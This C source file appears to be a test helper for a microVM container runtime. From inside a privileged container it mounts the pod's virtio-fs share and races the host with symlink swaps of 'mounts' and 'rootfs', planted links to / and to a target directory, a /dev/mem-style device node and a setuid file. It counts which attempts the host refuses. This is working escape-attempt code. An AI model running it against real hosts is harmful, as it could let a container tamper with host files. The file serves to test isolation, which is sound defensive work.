/* A hostile container's attack on its pod's shared directory (tests/tests/cri_microvm_share_attack.rs,
 * docs/security.md). Run in a container that may mount file systems in the guest
 * (CAP_SYS_ADMIN, or privileged): it mounts the pod's virtio-fs share, as any guest root can,
 * and for the given number of seconds keeps trying to steer the host side of the share:
 *
 *  - in every container folder it finds (`<cid>/`, polled as fast as it can, so a new
 *    container's folder is caught the moment it appears, while the host is still filling it,
 *    and every known folder again once a second): replace `mounts` and
 *    `rootfs` by symlinks to TARGET (a host directory), after moving the real ones aside, and
 *    plant `mounts/<n>` symlinks to TARGET before the host creates those names;
 *  - plant symlinks to TARGET and to / at the share's root;
 *  - fill the share (a file grown by 1 MiB a second, up to FILL_MAX: enough to see on the
 *    host, not enough to fill a host's disk when the host is wrong), create a character device node (1:1,
 *    /dev/mem's numbers), a setuid-root file and a directory.
 *
 * It never stops on an error (each refusal is what the host should do); it counts what worked
 * and what failed with which errno and prints one summary line per second and a final one:
 *   attack: rounds=R swapped=S planted=P filled=BYTES mknod=M setuid=U mkdir=D errors=<errno>:<count>,...
 * A correct host leaves swapped, planted, filled, mknod, setuid and mkdir at 0.
 *
 * usage: share-attack SECONDS TARGET [MOUNTPOINT]   (MOUNTPOINT default /mnt/share) */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <time.h>
#include <unistd.h>

#define FILL_MAX (64ul << 20)

static unsigned long rounds, swapped, planted, filled, mknods, setuids, mkdirs;
static unsigned long errs[256];

static void fail(void) {
    int e = errno;
    errs[e > 0 && e < 256 ? e : 0]++;
}

static double now(void) {
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return ts.tv_sec + ts.tv_nsec / 1e9;
}

static void summary(const char *tag) {
    printf("%s: rounds=%lu swapped=%lu planted=%lu filled=%lu mknod=%lu setuid=%lu mkdir=%lu errors=",
           tag, rounds, swapped, planted, filled, mknods, setuids, mkdirs);
    int first = 1;
    for (int e = 0; e < 256; e++) {
        if (errs[e]) {
            printf("%s%s:%lu", first ? "" : ",", e ? strerrorname_np(e) : "other", errs[e]);
            first = 0;
        }
    }
    printf("\n");
    fflush(stdout);
}

/* Replace DIR/NAME (a directory the host made) by a symlink to TARGET. */
static void swap(const char *dir, const char *name, const char *target) {
    char path[4096], aside[4096];
    struct stat st;
    snprintf(path, sizeof path, "%s/%s", dir, name);
    if (lstat(path, &st) == 0 && S_ISLNK(st.st_mode)) return;
    snprintf(aside, sizeof aside, "%s/.%s.%lu", dir, name, rounds);
    if (rename(path, aside) != 0 && errno != ENOENT) { fail(); return; }
    if (symlink(target, path) == 0) swapped++; else fail();
}

static void attack_container(const char *share, const char *cid, const char *target) {
    char dir[1024], mounts[2048], link[4096];
    if (snprintf(dir, sizeof dir, "%s/%s", share, cid) >= (int)sizeof dir) return;
    swap(dir, "mounts", target);
    swap(dir, "rootfs", target);
    snprintf(mounts, sizeof mounts, "%s/mounts", dir);
    for (int n = 0; n < 12; n++) {
        snprintf(link, sizeof link, "%s/%d", mounts, n);
        struct stat st;
        if (lstat(link, &st) == 0) continue;
        if (symlink(target, link) == 0) planted++; else fail();
    }
}

int main(int argc, char **argv) {
    if (argc < 3) {
        fprintf(stderr, "usage: %s SECONDS TARGET [MOUNTPOINT]\n", argv[0]);
        return 2;
    }
    double seconds = atof(argv[1]);
    const char *target = argv[2];
    const char *share = argc > 3 ? argv[3] : "/mnt/share";
    /* mkdir -p */
    char parents[4096];
    snprintf(parents, sizeof parents, "%s", share);
    for (char *p = parents + 1; *p; p++) {
        if (*p == '/') { *p = 0; mkdir(parents, 0755); *p = '/'; }
    }
    mkdir(share, 0755);
    if (mount("microvm-shared", share, "virtiofs", 0, NULL) != 0) {
        printf("attack: cannot mount the share: %s\n", strerror(errno));
        return 1;
    }
    printf("attack: mounted the pod's share at %s\n", share);
    fflush(stdout);

    /* The race: a container's folder is attacked the moment a readdir first shows it (the host
     * is then still creating and mounting under it), so the loop does nothing else between
     * readdirs. Once a second: every known folder again, and the attacks on the share itself. */
    static char seen[4096][256];
    int nseen = 0;
    char path[4096];
    double end = now() + seconds, next = 0;
    while (now() < end) {
        rounds++;
        DIR *d = opendir(share);
        if (!d) { fail(); continue; }
        struct dirent *e;
        while ((e = readdir(d))) {
            if (e->d_name[0] == '.' || e->d_type != DT_DIR || strlen(e->d_name) >= 256) continue;
            int known = 0;
            for (int i = 0; i < nseen && !known; i++) known = !strcmp(seen[i], e->d_name);
            if (known) continue;
            attack_container(share, e->d_name, target);
            if (nseen < 4096) strcpy(seen[nseen++], e->d_name);
        }
        closedir(d);
        if (now() < next) continue;
        next = now() + 1;

        for (int i = 0; i < nseen; i++) attack_container(share, seen[i], target);
        snprintf(path, sizeof path, "%s/link-to-target", share);
        if (symlink(target, path) == 0) planted++; else if (errno != EEXIST) fail();
        snprintf(path, sizeof path, "%s/link-to-root", share);
        if (symlink("/", path) == 0) planted++; else if (errno != EEXIST) fail();
        snprintf(path, sizeof path, "%s/fill", share);
        int fd = open(path, O_WRONLY | O_CREAT | O_APPEND, 0644);
        if (fd >= 0 && filled < FILL_MAX) {
            static char block[1 << 20];
            ssize_t w = write(fd, block, sizeof block);
            if (w > 0) filled += w; else fail();
            close(fd);
        } else if (fd >= 0) close(fd); else fail();
        snprintf(path, sizeof path, "%s/mem", share);
        if (mknod(path, S_IFCHR | 0666, makedev(1, 1)) == 0) mknods++; else if (errno != EEXIST) fail();
        snprintf(path, sizeof path, "%s/suid", share);
        fd = open(path, O_WRONLY | O_CREAT | O_EXCL, 04755);
        if (fd >= 0) { close(fd); if (chmod(path, 04755) == 0) setuids++; else fail(); }
        else if (errno != EEXIST) fail();
        snprintf(path, sizeof path, "%s/dir.%lu", share, rounds % 64);
        if (mkdir(path, 0755) == 0) mkdirs++; else if (errno != EEXIST) fail();
        summary("attack");
    }
    summary("attack done");
    return 0;
}
